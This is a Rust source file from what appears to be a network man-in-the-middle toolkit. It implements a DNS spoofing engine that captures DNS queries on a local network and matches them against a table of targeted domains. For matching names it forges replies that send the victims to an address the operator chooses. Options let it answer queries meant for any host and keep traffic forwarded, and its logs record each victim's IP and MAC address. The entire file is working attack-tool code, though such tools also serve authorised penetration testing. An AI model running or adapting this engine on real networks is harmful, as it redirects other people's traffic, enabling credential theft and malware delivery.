use super::hosts::HostTable;
use super::reply::{build_reply, CapturedQuery};
use crate::context::SpoofContext;
use async_trait::async_trait;
use hickory_proto::op::Message;
use hickory_proto::rr::Name;
use netspoof_core::{
    CancellationToken, Engine, EngineLoop, EngineStats, EngineStatsCounters, Error, FrameSource,
    Interface, MacAddr, Packet, Result,
};
use parking_lot::Mutex;
use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;
use tokio::sync::mpsc;
use tracing::{debug, error, info, trace, warn};

/// Capture filter handed to the frame source
pub const CAPTURE_FILTER: &str = "udp";

pub const DEFAULT_TTL: u32 = 1024;

/// DNS spoofing parameters
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DnsSpoofConfig {
    /// Domain patterns resolved to `address`
    pub domains: Vec<String>,
    /// Defaults to the interface's IPv4 address
    pub address: Option<IpAddr>,
    pub hosts_file: Option<PathBuf>,
    /// Answer queries addressed to any host, not only this one
    pub all: bool,
    pub ttl: u32,
}

impl Default for DnsSpoofConfig {
    fn default() -> Self {
        Self {
            domains: Vec::new(),
            address: None,
            hosts_file: None,
            all: false,
            ttl: DEFAULT_TTL,
        }
    }
}

impl DnsSpoofConfig {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with_domains<S: Into<String>>(mut self, domains: impl IntoIterator<Item = S>) -> Self {
        self.domains = domains.into_iter().map(Into::into).collect();
        self
    }

    pub fn with_address(mut self, address: IpAddr) -> Self {
        self.address = Some(address);
        self
    }

    pub fn with_hosts_file(mut self, path: impl Into<PathBuf>) -> Self {
        self.hosts_file = Some(path.into());
        self
    }

    pub fn with_all(mut self, all: bool) -> Self {
        self.all = all;
        self
    }

    pub fn with_ttl(mut self, ttl: u32) -> Self {
        self.ttl = ttl;
        self
    }

    /// Domains mapped to the address, followed by the hosts file entries
    pub fn host_table(&self, interface: &Interface) -> Result<HostTable> {
        let mut table = HostTable::new();

        if !self.domains.is_empty() {
            let address = self
                .address
                .or(interface.ipv4.map(IpAddr::V4))
                .ok_or_else(|| {
                    Error::invalid_parameter(
                        "address",
                        format!("none given and {} has no IPv4 address", interface.name),
                    )
                })?;
            table = HostTable::from_domains(&self.domains, address)?;
        }

        if let Some(path) = &self.hosts_file {
            info!(path = %path.display(), "loading hosts file");
            table.extend(HostTable::from_file(path)?);
        }

        if table.is_empty() {
            return Err(Error::configuration(
                "at least one domain or a non-empty hosts file is required",
            ));
        }
        Ok(table)
    }
}

/// Outcome of answering one query
#[derive(Debug)]
pub(super) struct Spoofed {
    pub victim: IpAddr,
    pub victim_mac: MacAddr,
    pub domain: String,
    pub address: IpAddr,
    pub frame: Vec<u8>,
}

/// Stateless per-frame decision logic of the DNS spoofer
pub(super) struct Responder {
    pub own_mac: MacAddr,
    pub hosts: HostTable,
    pub all: bool,
    pub ttl: u32,
}

impl Responder {
    /// First question whose name is in the host table
    fn resolve(&self, message: &Message) -> Option<(Name, IpAddr)> {
        message.queries().iter().find_map(|query| {
            let name = query.name().to_ascii();
            match self.hosts.resolve(&name) {
                Some(address) => Some((query.name().clone(), address)),
                None => {
                    trace!(domain = %name, "skipping domain");
                    None
                }
            }
        })
    }

    /// Forged reply for `frame`, or `None` if the frame is to be ignored
    pub fn respond(&self, frame: &[u8]) -> Result<Option<Spoofed>> {
        // other hosts' traffic is not even decoded unless `all` is set
        if !self.all && frame.get(..6) != Some(self.own_mac.as_bytes()) {
            return Ok(None);
        }

        let Some(query) = CapturedQuery::decode(frame)? else {
            return Ok(None);
        };

        if !query.is_plain_query() {
            debug!(
                questions = query.message.queries().len(),
                answers = query.message.answers().len(),
                "skipping DNS message"
            );
            return Ok(None);
        }

        let Some((name, address)) = self.resolve(&query.message) else {
            return Ok(None);
        };

        let frame = build_reply(&query, &name, address, self.ttl)?;
        Ok(Some(Spoofed {
            victim: query.src_ip,
            victim_mac: query.src_mac,
            domain: name.to_ascii(),
            address,
            frame,
        }))
    }
}

/// DNS spoofer answering captured queries from a host table
pub struct DnsSpoofEngine {
    ctx: SpoofContext,
    source: Arc<dyn FrameSource>,
    config: Mutex<DnsSpoofConfig>,
    lp: EngineLoop,
}

impl DnsSpoofEngine {
    pub const NAME: &'static str = "dns.spoof";

    pub fn new(ctx: SpoofContext, source: Arc<dyn FrameSource>, config: DnsSpoofConfig) -> Self {
        Self {
            ctx,
            source,
            config: Mutex::new(config),
            lp: EngineLoop::new(Self::NAME),
        }
    }

    /// Replace the configuration; only allowed while stopped
    pub fn configure(&self, config: DnsSpoofConfig) -> Result<()> {
        self.lp.ensure_stopped()?;
        *self.config.lock() = config;
        Ok(())
    }

    pub fn config(&self) -> DnsSpoofConfig {
        self.config.lock().clone()
    }
}

async fn capture_loop(
    responder: Responder,
    ctx: SpoofContext,
    mut frames: mpsc::Receiver<Packet>,
    counters: Arc<EngineStatsCounters>,
    token: CancellationToken,
) {
    loop {
        let packet = tokio::select! {
            _ = token.cancelled() => break,
            packet = frames.recv() => match packet {
                Some(packet) => packet,
                None => {
                    warn!("capture stream ended");
                    break;
                }
            },
        };
        counters.increment_received();

        match responder.respond(packet.data()) {
            Ok(Some(spoofed)) => {
                if ctx.send(DnsSpoofEngine::NAME, &spoofed.frame, &counters) {
                    info!(
                        victim = %ctx.describe(spoofed.victim),
                        victim_mac = %spoofed.victim_mac,
                        domain = %spoofed.domain,
                        address = %spoofed.address,
                        "sending spoofed DNS reply"
                    );
                }
            }
            Ok(None) => {}
            Err(e) => {
                counters.increment_errors();
                error!(error = %e, "dropping DNS frame");
            }
        }
    }
}

#[async_trait]
impl Engine for DnsSpoofEngine {
    fn name(&self) -> &'static str {
        Self::NAME
    }

    fn description(&self) -> &'static str {
        "Reply to DNS queries with spoofed responses"
    }

    async fn start(&self) -> Result<()> {
        self.lp.ensure_stopped()?;

        let config = self.config();
        let hosts = config.host_table(&self.ctx.interface)?;
        for entry in hosts.entries() {
            info!(entry = %entry, "spoofing");
        }

        if self.ctx.registry.is_empty() {
            warn!("no endpoints discovered yet, net.recon should be running");
        }
        self.ctx.ensure_forwarding().await?;

        let responder = Responder {
            own_mac: self.ctx.interface.mac_address,
            hosts,
            all: config.all,
            ttl: config.ttl,
        };
        let source = Arc::clone(&self.source);
        let ctx = self.ctx.clone();
        let counters = self.lp.counters();

        // the capture is opened only once this start owns the loop slot
        self.lp.try_spawn(move |token| {
            let frames = source.open(CAPTURE_FILTER)?;
            Ok(capture_loop(responder, ctx, frames, counters, token))
        })?;

        info!(
            interface = %self.ctx.interface.name,
            all = config.all,
            ttl = config.ttl,
            "DNS spoofer started"
        );
        Ok(())
    }

    async fn stop(&self) -> Result<()> {
        let joined = self.lp.shutdown().await;
        self.source.close();
        joined?;
        info!("DNS spoofer stopped");
        Ok(())
    }

    fn is_running(&self) -> bool {
        self.lp.is_running()
    }

    fn stats(&self) -> EngineStats {
        self.lp.stats()
    }
}
